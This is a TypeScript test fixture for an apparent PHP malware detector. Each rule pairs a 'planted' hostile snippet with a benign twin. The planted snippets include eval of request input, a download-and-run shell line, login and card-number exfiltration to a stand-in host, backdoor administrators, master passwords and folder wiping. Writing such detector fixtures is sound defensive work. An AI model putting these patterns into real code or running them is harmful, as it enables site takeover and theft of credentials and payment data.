/** What one rule of the PHP reading must tell, and the honest twin that it must not accuse. Inert: the tests only read them. */
export interface BehaviourSpecimen {
  readonly planted: string;
  readonly honest: string;
}

const RUN = ['ev', 'al'].join('');
const GET = ['$_G', 'ET'].join('');
const POST = ['$_P', 'OST'].join('');
const SERVER = ['$_SER', 'VER'].join('');
const HOME = 'http://inert.example.test';

/** By the id of the rule, without an opening tag. test/contracts/behaviours.test.ts asks for one of each. */
export const behaviourSpecimens: Readonly<Record<string, BehaviourSpecimen>> = {
  'php.request-to-code': {
    planted: `${RUN}(${POST}['inert']);`,
    honest: `$page = (int) ${GET}['page']; echo htmlspecialchars(${POST}['text']);`,
  },
  'php.remote-to-code': {
    planted: `${RUN}(file_get_contents('${HOME}/a'));`,
    honest: `$feed = json_decode(file_get_contents('${HOME}/a'), true); echo count($feed);`,
  },
  'php.header-to-code': {
    planted: `${RUN}(${SERVER}['HTTP_USER_AGENT']);`,
    honest: `if (strpos(${SERVER}['HTTP_USER_AGENT'], 'MSIE') !== false) echo 'old';`,
  },
  'php.hidden-code': {
    planted: `${RUN}(gzinflate(base64_decode('AAAA')) . base64_decode('ZWNobyAxOw=='));`,
    honest: `$icon = base64_decode('R0lGODlhAQABAAAAACw='); header('Content-Type: image/gif'); echo $icon;`,
  },
  'php.own-text-to-code': {
    planted: `$f = file_get_contents(__FILE__, false, null, 900); ${RUN}('?>' . __FILE__ . $f);`,
    honest: `$size = filesize(__FILE__); echo $size;`,
  },
  'php.file-to-code': {
    planted: `${RUN}(file_get_contents('inert.txt'));`,
    honest: `echo nl2br(file_get_contents('terms.txt'));`,
  },
  'php.indirect-code': {
    planted: `$f = create_function('$x', '${RUN}($x);'); $f('1;');`,
    honest: `$f = create_function('$a,$b', 'return strcmp($a, $b);'); usort($list, $f);`,
  },
  'php.request-to-command': {
    planted: `passthru(${GET}['inert']);`,
    honest: `exec('convert ' . escapeshellarg(${GET}['file']));`,
  },
  'php.remote-to-command': {
    planted: `system(file_get_contents('${HOME}/a'));`,
    honest: `system('uptime'); echo file_exists('a');`,
  },
  'php.hidden-command': {
    planted: `$f = base64_decode('c3lzdGVt'); $f(base64_decode('dXB0aW1l'));`,
    honest: `$f = 'strtoupper'; echo $f('uptime');`,
  },
  'php.attack-command': {
    planted: `exec('wget ${HOME}/a -O /tmp/a; chmod 777 /tmp/a; perl /tmp/a | sh');`,
    honest: `exec('git rev-parse HEAD', $out); echo $out[0];`,
  },
  'php.every-runner': {
    planted: `function r($c) { if (function_exists('system')) system($c); elseif (1 > $x) exec($c); else passthru($c); } r($argv[1]);`,
    honest: `function r($c) { exec($c, $out); return $out; } r('uptime');`,
  },
  'php.request-chooses-call': {
    planted: `$f = ${GET}['f']; $f(${GET}['x']);`,
    honest: `$allowed = array('list' => 'show_list'); $f = $allowed[${GET}['a']]; $f();`,
  },
  'php.hidden-call': {
    planted: `$f = base64_decode(strrev('=0mblhHc')) . ${SERVER}['HTTP_ACCEPT_LANGUAGE']; $f(${POST}['x']);`,
    honest: `$f = 'trim'; echo $f(${POST}['x']);`,
  },
  'php.callback-to-code': {
    planted: `filter_var(${POST}['a'], FILTER_CALLBACK, array('options' => 'assert'));`,
    honest: `filter_var(${POST}['a'], FILTER_VALIDATE_EMAIL);`,
  },
  'php.hidden-name': {
    planted: `$f = ('!' ^ '@') . ('3' ^ '@') . 'sert'; $f(1);`,
    honest: `$f = 'strtoupper'; echo $f('a');`,
  },
  'php.remote-include': {
    planted: `include '${HOME}/a.txt';`,
    honest: `include __DIR__ . '/header.php';`,
  },
  'php.request-include': {
    planted: `include ${GET}['inert'];`,
    honest: `$pages = array('a' => 'a.php'); include 'pages/' . basename($pages[${GET}['p']]);`,
  },
  'php.hidden-include': {
    planted: `include base64_decode('L3RtcC9pbmVydA==');`,
    honest: `include 'lib/' . strtolower('Inert') . '.php';`,
  },
  'php.odd-include': {
    planted: `include 'images/inert.ico';`,
    honest: `include 'images/index.php';`,
  },
  'php.request-to-file': {
    planted: `$h = fopen(${POST}['p'], 'w'); fwrite($h, ${POST}['c']);`,
    honest: `$h = fopen('visits.log', 'a'); fwrite($h, date('c'));`,
  },
  'php.remote-to-file': {
    planted: `file_put_contents(${GET}['to'], file_get_contents('${HOME}/a'));`,
    honest: `file_put_contents('cache/feed.xml', file_get_contents('${HOME}/feed'));`,
  },
  'php.plants-script': {
    planted: `file_put_contents('wp-inert.php', file_get_contents('${HOME}/a'));`,
    honest: `file_put_contents('cache/list.php', '<?php return ' . var_export($list, true) . ';');`,
  },
  'php.plants-program': {
    planted: `$h = fopen('/tmp/inert.pl', 'w'); fwrite($h, "#!/usr/bin/perl\\nuse Socket;\\n");`,
    honest: `$h = fopen('export.csv', 'w'); fwrite($h, "name;city\\n");`,
  },
  'php.plants-and-runs': {
    planted: `file_put_contents('c.html', ${GET}['x']); require 'c.html';`,
    honest: `file_put_contents('c.html', '<p>static</p>'); require 'd.php';`,
  },
  'php.rewrites-site': {
    planted: `$h = fopen('../index.php', 'w'); fwrite($h, $old . $new);`,
    honest: `$h = fopen('../sitemap.xml', 'w'); fwrite($h, $old . $new);`,
  },
  'php.writes-passwords': {
    planted: `file_put_contents('/home/inert/.ssh/authorized_keys', 'ssh-rsa inert');`,
    honest: `file_put_contents('/home/inert/notes.txt', 'text');`,
  },
  'php.forges-times': {
    planted: `$t = filemtime('index.php'); file_put_contents('a.txt', 'x'); touch('index.php', $t);`,
    honest: `file_put_contents('a.txt', 'x'); touch('restart.txt');`,
  },
  'php.open-upload': {
    planted: `move_uploaded_file($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']);`,
    honest: `if (getimagesize($_FILES['f']['tmp_name'])) move_uploaded_file($_FILES['f']['tmp_name'], 'x/' . md5('a') . '.jpg');`,
  },
  'php.file-manager': {
    planted: `if (${GET}['d']) unlink(${GET}['d']); echo file_get_contents(${GET}['f']); $h = opendir(${GET}['x']);`,
    honest: `if (current_user_can('manage')) unlink(${GET}['d']); echo file_get_contents('a.txt');`,
  },
  'php.request-unserialize': {
    planted: `class A { function b() {} } include 'a.php'; $x = unserialize(${POST}['x']);`,
    honest: `class A { function b() {} } include 'a.php'; $x = json_decode(${POST}['x']);`,
  },
  'php.open-mailer': {
    planted: `mail(${POST}['to'], ${POST}['s'], ${POST}['m']);`,
    honest: `mail('info@example.test', 'Contact', ${POST}['message']);`,
  },
  'php.hidden-mail': {
    planted: `mail(base64_decode('YUBleGFtcGxlLnRlc3Q='), 'x', 'y');`,
    honest: `mail('a@example.test', 'x', 'y');`,
  },
  'php.mails-secrets': {
    planted: `mail('inert@example.test', 'log', ${POST}['email'] . ${POST}['password']);`,
    honest: `mail('shop@example.test', 'Order', ${POST}['name'] . ${POST}['city']);`,
  },
  'php.reports-home': {
    planted: `mail('inert@example.test', 'here', ${SERVER}['HTTP_HOST'] . ${SERVER}['SCRIPT_NAME']);`,
    honest: `mail($owner, 'Your order', 'Thank you.');`,
  },
  'php.remote-output': {
    planted: `echo file_get_contents('${HOME}/?h=' . ${SERVER}['HTTP_HOST']);`,
    honest: `$news = file_get_contents('${HOME}/feed'); echo strlen($news);`,
  },
  'php.leaves-its-folder': {
    planted: `chdir('a'); ini_set('open_basedir', '..'); chdir('..'); echo file_get_contents(${GET}['f']);`,
    honest: `ini_set('open_basedir', __DIR__); echo count(scandir('a'));`,
  },
  'php.sets-prepended-file': {
    planted: `ini_set('auto_prepend_file', '/tmp/inert.jpg'); system(${GET}['x']);`,
    honest: `ini_set('memory_limit', '64M'); echo ini_get('auto_prepend_file');`,
  },
  'php.cloaked-redirect': {
    planted: `if (strpos(${SERVER}['HTTP_REFERER'], 'google')) header('Location: ${HOME}/');`,
    honest: `header('Location: /login.php');`,
  },
  'php.turns-away-scanners': {
    planted: `foreach (array('phishtank', 'netcraft', 'a', 'b', 'c') as $w) { if (strpos(${SERVER}['HTTP_USER_AGENT'], $w)) die; }`,
    honest: `foreach (array('iphone', 'android') as $w) { if (strpos(${SERVER}['HTTP_USER_AGENT'], $w)) $mobile = true; }`,
  },
  'php.makes-administrator': {
    planted: `$id = wp_create_user('inert', 'inert-word', 'a@example.test'); $u = new WP_User($id); $u->set_role('administrator');`,
    honest: `$id = wp_create_user($name, wp_generate_password(), $mail); $u = new WP_User($id); $u->set_role('subscriber');`,
  },
  'php.logs-anybody-in': {
    planted: `if (isset(${GET}['inert'])) { $a = get_users(array('role' => 'administrator')); wp_set_auth_cookie($a[0]->ID); }`,
    honest: `$user = wp_signon(array('user_login' => ${POST}['log'], 'user_password' => ${POST}['pwd'])); wp_set_auth_cookie($user->ID);`,
  },
  'php.master-password': {
    planted: `add_filter('check_password', function ($ok, $typed) { return $ok || sha1($typed) === '${'0'.repeat(40)}'; }, 10, 2);`,
    honest: `add_filter('check_password', function ($ok, $typed, $hash) { return $ok || md5($typed) === $hash; }, 10, 3);`,
  },
  'php.hides-from-lists': {
    planted: `add_filter('all_plugins', fn ($all) => array_diff_key($all, array(plugin_basename(__FILE__) => 1)));`,
    honest: `add_filter('all_plugins', function ($all) { $all['a/a.php']['Name'] = 'Agency'; return $all; });`,
  },
  'php.keeps-logins': {
    planted: `add_action('wp_authenticate', function ($name, $word) { wp_remote_post('${HOME}/c', array('body' => $word)); }, 10, 2);`,
    honest: `add_filter('authenticate', function ($user, $name, $word) { $r = wp_remote_post('${HOME}/c', array('body' => $word)); return check($r); }, 10, 3);`,
  },
  'php.keeps-cards': {
    planted: `$c = curl_init('${HOME}/c'); curl_setopt($c, CURLOPT_POSTFIELDS, array('n' => ${POST}['card_number'])); curl_exec($c);`,
    honest: `$c = curl_init('${HOME}/c'); curl_setopt($c, CURLOPT_POSTFIELDS, array('n' => ${POST}['card_number'])); $answer = curl_exec($c); parse($answer);`,
  },
  'php.cloaked-page': {
    planted: `if (preg_match('/googlebot|bingbot/', ${SERVER}['HTTP_USER_AGENT'])) { echo '<a href="${HOME}/">inert</a>'; }`,
    honest: `if (preg_match('/googlebot|bingbot/', ${SERVER}['HTTP_USER_AGENT'])) { $isRobot = true; } echo '<a href="${HOME}/">a</a>';`,
  },
  'php.stored-call': {
    planted: `$o = get_option('inert'); $f = $o['f']; $f($o['x']);`,
    honest: `$o = get_option('format'); echo date($o['f']);`,
  },
  'php.request-told': {
    planted: `exec('curl --data "' . serialize(${POST}) . '" ' . base64_decode('aHR0cDovL2luZXJ0LmV4YW1wbGUudGVzdC8='));`,
    honest: `exec('curl --data ' . escapeshellarg(${POST}['a']) . ' ${HOME}/');`,
  },
  'php.hidden-plugin': {
    planted: `add_filter('all_plugins', function ($l) { unset($l[plugin_basename(__FILE__)]); return $l; }); file_put_contents(__FILE__, file_get_contents('${HOME}/a'));`,
    honest: `$news = file_get_contents('${HOME}/a'); file_put_contents('cache/news.json', $news);`,
  },
  'php.defaces': {
    planted: `foreach (glob(${GET}['d'] . '/*') as $d) file_put_contents($d . '/about.html', 'inert: hacked by nobody');`,
    honest: `foreach (glob('*', GLOB_ONLYDIR) as $d) file_put_contents($d . '/about.html', '<!-- nothing to see -->');`,
  },
  'php.visits-other-accounts': {
    planted: `foreach (file('/etc/passwd') as $l) symlink('/home/' . strtok($l, ':') . '/inert.php', 'inert.txt');`,
    honest: `foreach (file('/etc/passwd') as $l) echo htmlspecialchars(strtok($l, ':')); symlink(__DIR__ . '/releases/2', 'current');`,
  },
  'php.wipes-folders': {
    planted: `foreach (glob(${GET}['d'] . '/*') as $f) unlink($f); rmdir(${GET}['d']);`,
    honest: `foreach (glob(__DIR__ . '/cache/*') as $f) unlink($f); rmdir(__DIR__ . '/cache');`,
  },
};
